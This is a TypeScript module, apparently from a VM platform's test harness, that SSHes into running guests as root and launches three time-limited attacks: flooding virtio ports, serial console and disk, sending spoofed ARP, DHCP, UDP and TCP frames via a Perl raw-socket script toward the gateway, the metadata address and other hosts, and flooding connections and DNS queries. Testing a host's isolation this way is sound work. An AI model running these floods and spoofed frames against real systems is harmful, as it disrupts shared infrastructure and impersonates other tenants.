/**
 * Root of a guest turns against the server: floods every line to it, its network with frames that lie, or the host's
 * table of connections and the resolvers with what is only too much.
 */
import type { Client } from './client.ts'
import { lookAt } from './look.ts'
import { nowhere } from './nowhere.ts'
import { ssh } from './ssh.ts'

export interface Reachable {
  address: string
  port: number
  /** Name of the SSH key that it lets in, which is the text that the key was made of. */
  key: string
}

/** The running VMs of a user, by what the API shows of them. */
export async function reachableOf(client: Client, user: number): Promise<Reachable[]> {
  const seen = (await lookAt(client, user)) ?? []
  return seen.flatMap(({ kind, object }) => {
    const { status, ip_address: address, ssh_port: port, ssh_key_name: key } = object
    if (kind !== 'vm' || status !== 'running' || typeof address !== 'string') return []
    return [{ address, port: Number(port), key: String(key) }]
  })
}

/** What root of a guest can send through what the server gave it. */
const lines = `
for port in /dev/virtio-ports/*; do
  timeout 8 sh -c "head -c 16777216 /dev/zero | tr '\\0' '[' > $port" &
done
timeout 8 sh -c 'yes flood | head -c 33554432 > /dev/ttyS0' &
timeout 8 dd if=/dev/zero of=/fill bs=1M count=256
wait
rm -f /fill
`

/**
 * Frames from made-up neighbours: ARP that claims everybody's address, DHCP, UDP and TCP in other people's names to
 * the host, its metadata and the Internet, and plain rubbish; with Perl, which every Debian has.
 */
const network = String.raw`
cat > /run/flood.pl <<'PERL'
my ($card) = grep { !m{/lo$} } </sys/class/net/*>;
open my $file, '<', "$card/ifindex"; my $index = <$file>;
socket my $line, 17, 3, 0 or die;
my $to = pack 'S n i S C C a8', 17, 0x0800, $index, 1, 0, 6, "\xff" x 6;
sub any { join '', map { chr int rand 256 } 1 .. shift }
sub sum { my $sum = 0; $sum += $_ for unpack 'n*', shift; $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16; ~$sum & 0xffff }
sub ip { my ($kind, $from, $at, $what) = @_;
  my @head = (0x45, 0, 20 + length $what, int rand 65536, 0, 64, $kind);
  my $sum = sum(pack 'C C n n n C C n a4 a4', @head, 0, $from, $at);
  return "\x08\x00" . pack('C C n n n C C n a4 a4', @head, $sum, $from, $at) . $what }
my ($net) = qx{ip -4 -o address} =~ /inet (10[.]\d+[.]\d+)[.]/; $net ||= '10.0.2';
my @hosts = map { pack 'C4', split /[.]/ } "$net.1", "$net.2", "$net.3", '169.254.169.254', '127.0.0.1', '192.0.2.1';
my $end = time + 8;
while (time < $end) { for (1 .. 200) {
  my $card = "\x02" . any(5);
  my $from = rand() < 0.5 ? pack('C4', split(/[.]/, $net), int rand 256) : any(4);
  my $at = $hosts[rand @hosts];
  my $body = (
    sub { "\x08\x06" . pack 'n n C C n a6 a4 a6 a4', 1, 0x800, 6, 4, 1 + int rand 2, $card, $at, any(6), $from },
    sub { ip(17, $from, $at, pack('n n n n', 68, 67, 308, 0) . any(300)) },
    sub { ip(17, $from, $at, pack('n n n n', 1 + rand 65535, 1 + rand 65535, 1208, 0) . any(1200)) },
    sub { ip(6, $from, $at, pack 'n n N N n n n n', 1 + rand 65535, 1 + rand 65535, rand 2**32, 0, 0x5002, 65535, 0, 0) },
    sub { any(2 + int rand 1498) },
  )[rand 5]->();
  send $line, ("\xff" x 6) . $card . $body, 0, $to } }
PERL
timeout 20 perl /run/flood.pl
rm -f /run/flood.pl
`

/**
 * New connections, each to another port of an address that `openNowhere` leads to nobody, and questions for names that
 * nobody has.
 */
const connections = String.raw`
cat > /run/connections.pl <<'PERL'
use Socket;
socket my $line, PF_INET, SOCK_DGRAM, 0 or die;
open my $file, '<', '/etc/resolv.conf'; my ($resolver) = join('', <$file>) =~ /nameserver ([\d.]+)/; $resolver ||= '10.0.2.3';
my $end = time + 15; my $n = 0;
while (time < $end) {
  for (1 .. 500) { $n++; send $line, 'x', 0, sockaddr_in(1 + $n % 65535, inet_aton('${nowhere}.' . (1 + ($n >> 16) % 250))) }
  my $name = "q$n"; my $question = pack('n6', $n & 0xffff, 0x100, 1, 0, 0, 0) . chr(length $name) . $name . "\x06silent\x07example\x00\x00\x01\x00\x01";
  send $line, $question, 0, sockaddr_in(53, inet_aton($resolver));
  select undef, undef, undef, 0.01 }
PERL
timeout 20 perl /run/connections.pl
rm -f /run/connections.pl
`

export const attacks = { lines, network, connections }

/** Resolves when the attack is over, or could not be begun because the guest ended. */
export async function attackFrom(guest: Reachable, how: keyof typeof attacks): Promise<void> {
  // Guests are killed and frozen by other steps; that is no failure of this one.
  await ssh({ ...guest, user: 'root', command: attacks[how], timeoutMs: 60_000 })
}
